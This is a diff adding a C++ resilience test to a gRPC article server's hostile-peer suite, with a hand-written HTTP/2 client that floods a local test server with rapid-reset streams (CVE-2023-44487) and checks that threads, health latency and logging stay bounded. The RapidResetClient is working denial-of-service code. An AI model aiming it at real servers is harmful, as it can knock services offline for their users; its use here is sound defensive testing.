@@ -2,7 +2,12 @@
 // peer can make the server spend stays bounded, and the server keeps
 // answering everyone else. Each test prints the figure it measured.
 
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <sys/socket.h>
 #include <sys/types.h>
+#include <unistd.h>
 
 #include <algorithm>
 #include <atomic>
@@ -21,6 +26,7 @@
 #include "client/article_client.h"
 #include "content/v1/article_service.grpc.pb.h"
 #include "gmock/gmock.h"
+#include "grpc/health/v1/health.grpc.pb.h"
 #include "grpcpp/client_context.h"
 #include "grpcpp/completion_queue.h"
 #include "grpcpp/create_channel.h"
@@ -203,6 +209,180 @@ TEST(HostilePeerTest, TenThousandWatchesCostNoThreadsAndBarelySlowPuts) {
             << ProcStatus(server.pid(), "VmHWM") / 1024 << " MiB\n";
   EXPECT_LE(threads_watching, threads_before + 8);
   EXPECT_LE(watched, 2 * alone + absl::Milliseconds(2));
+}
+
+// Health.Check latency on a fresh connection, or a very long duration if
+// it does not answer SERVING within `timeout`.
+absl::Duration HealthLatency(const std::string& address,
+                             absl::Duration timeout) {
+  auto stub = grpc::health::v1::Health::NewStub(CreateArticleChannel(address));
+  grpc::ClientContext context;
+  context.set_deadline(absl::ToChronoTime(absl::Now() + timeout));
+  grpc::health::v1::HealthCheckResponse response;
+  const absl::Time start = absl::Now();
+  const grpc::Status status = stub->Check(&context, {}, &response);
+  if (!status.ok()) return absl::InfiniteDuration();
+  return absl::Now() - start;
+}
+
+// A hand-made HTTP/2 client for the rapid-reset pattern (CVE-2023-44487):
+// on one connection, each stream is opened with HEADERS and a request and
+// reset at once with RST_STREAM, faster than any server can serve it.
+class RapidResetClient {
+ public:
+  explicit RapidResetClient(const std::string& address) {
+    const size_t colon = address.rfind(':');
+    sockaddr_in peer{};
+    peer.sin_family = AF_INET;
+    peer.sin_port =
+        htons(static_cast<uint16_t>(std::stoi(address.substr(colon + 1))));
+    inet_pton(AF_INET, address.substr(0, colon).c_str(), &peer.sin_addr);
+    fd_ = socket(AF_INET, SOCK_STREAM, 0);
+    connected_ =
+        connect(fd_, reinterpret_cast<sockaddr*>(&peer), sizeof(peer)) == 0;
+    authority_ = address;
+    Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(4, 0, 0, ""));
+    reader_ = std::thread([this] { Drain(); });
+  }
+
+  ~RapidResetClient() {
+    shutdown(fd_, SHUT_RDWR);
+    reader_.join();
+    close(fd_);
+  }
+
+  bool connected() const { return connected_; }
+
+  // Opens and resets `count` PutArticle streams carrying `request`.
+  void Flood(int count, const std::string& request) {
+    std::string grpc_frame(5, '\0');
+    const uint32_t length = static_cast<uint32_t>(request.size());
+    for (int i = 0; i < 4; ++i) grpc_frame[1 + i] = length >> (24 - 8 * i);
+    grpc_frame += request;
+    std::string burst;
+    for (int i = 0; i < count; ++i, next_stream_ += 2) {
+      burst += Frame(1, 0x4, next_stream_, Headers());   // END_HEADERS
+      burst += Frame(0, 0x1, next_stream_, grpc_frame);  // END_STREAM
+      burst += Frame(3, 0, next_stream_, std::string("\0\0\0\x08", 4));
+    }
+    Send(burst);
+  }
+
+ private:
+  static std::string Frame(uint8_t type, uint8_t flags, uint32_t stream,
+                           const std::string& payload) {
+    std::string frame;
+    const uint32_t length = static_cast<uint32_t>(payload.size());
+    frame += static_cast<char>(length >> 16);
+    frame += static_cast<char>(length >> 8);
+    frame += static_cast<char>(length);
+    frame += static_cast<char>(type);
+    frame += static_cast<char>(flags);
+    for (int i = 0; i < 4; ++i)
+      frame += static_cast<char>(stream >> (24 - 8 * i));
+    return frame + payload;
+  }
+
+  // HPACK literals without indexing, without Huffman coding (RFC 7541 6.2.2).
+  std::string Headers() const {
+    std::string block;
+    for (const auto& [name, value] :
+         std::vector<std::pair<std::string, std::string>>{
+             {":method", "POST"},
+             {":scheme", "http"},
+             {":path", "/content.v1.ArticleService/PutArticle"},
+             {":authority", authority_},
+             {"content-type", "application/grpc"},
+             {"te", "trailers"}}) {
+      block += '\0';
+      block += static_cast<char>(name.size());
+      block += name;
+      block += static_cast<char>(value.size());
+      block += value;
+    }
+    return block;
+  }
+
+  void Send(const std::string& bytes) {
+    absl::MutexLock lock(&write_mu_);
+    size_t sent = 0;
+    while (sent < bytes.size()) {
+      const ssize_t n =
+          send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
+      if (n <= 0) return;
+      sent += static_cast<size_t>(n);
+    }
+  }
+
+  // Reads and drops what the server sends, acknowledging its SETTINGS.
+  void Drain() {
+    std::string buffer;
+    char chunk[65536];
+    for (;;) {
+      const ssize_t n = recv(fd_, chunk, sizeof(chunk), 0);
+      if (n <= 0) return;
+      buffer.append(chunk, static_cast<size_t>(n));
+      while (buffer.size() >= 9) {
+        const size_t length = (static_cast<uint8_t>(buffer[0]) << 16) |
+                              (static_cast<uint8_t>(buffer[1]) << 8) |
+                              static_cast<uint8_t>(buffer[2]);
+        if (buffer.size() < 9 + length) break;
+        if (buffer[3] == 4 && (buffer[4] & 1) == 0) Send(Frame(4, 1, 0, ""));
+        buffer.erase(0, 9 + length);
+      }
+    }
+  }
+
+  int fd_ = -1;
+  bool connected_ = false;
+  std::string authority_;
+  uint32_t next_stream_ = 1;
+  absl::Mutex write_mu_;
+  std::thread reader_;
+};
+
+TEST(HostilePeerTest, ARapidResetFloodCostsBoundedThreadsAndNoLogFlood) {
+  testing::TempDir data;
+  testing::ServerProcess server(data.path());
+  ASSERT_TRUE(server.started());
+  v1::PutArticleRequest request;
+  *request.mutable_article() = Small("https://a.example/reset");
+  const std::string request_bytes = request.SerializeAsString();
+
+  int64_t peak_threads = 0;
+  int streams = 0;
+  std::vector<absl::Duration> health;
+  {
+    RapidResetClient flood(server.address());
+    ASSERT_TRUE(flood.connected());
+    const absl::Time end = absl::Now() + absl::Seconds(5);
+    while (absl::Now() < end && streams < 100000) {
+      flood.Flood(500, request_bytes);
+      streams += 500;
+      peak_threads =
+          std::max(peak_threads, ProcStatus(server.pid(), "Threads"));
+
+      if (streams % 5000 == 0) {
+        health.push_back(HealthLatency(server.address(), absl::Seconds(30)));
+      }
+    }
+  }
+  absl::SleepFor(absl::Seconds(1));
+  health.push_back(HealthLatency(server.address(), absl::Seconds(30)));
+  const int64_t rss_kib = ProcStatus(server.pid(), "VmHWM");
+  ASSERT_EQ(server.Stop(SIGTERM), 0);
+  const std::string& log = server.log();
+  const size_t log_lines = std::count(log.begin(), log.end(), '\n');
+  std::cout << streams << " streams opened and reset in 5 s on one "
+            << "connection: server threads peak " << peak_threads
+            << ", peak RSS " << rss_kib / 1024 << " MiB, health p50 "
+            << absl::FormatDuration(Median(health)) << ", max "
+            << absl::FormatDuration(
+                   *std::max_element(health.begin(), health.end()))
+            << ", log lines " << log_lines << "\n";
+  EXPECT_LE(peak_threads, 100);
+  EXPECT_LT(Median(health), absl::Seconds(1));
+  EXPECT_LT(log_lines, 100u);
 }
 
 }  // namespace
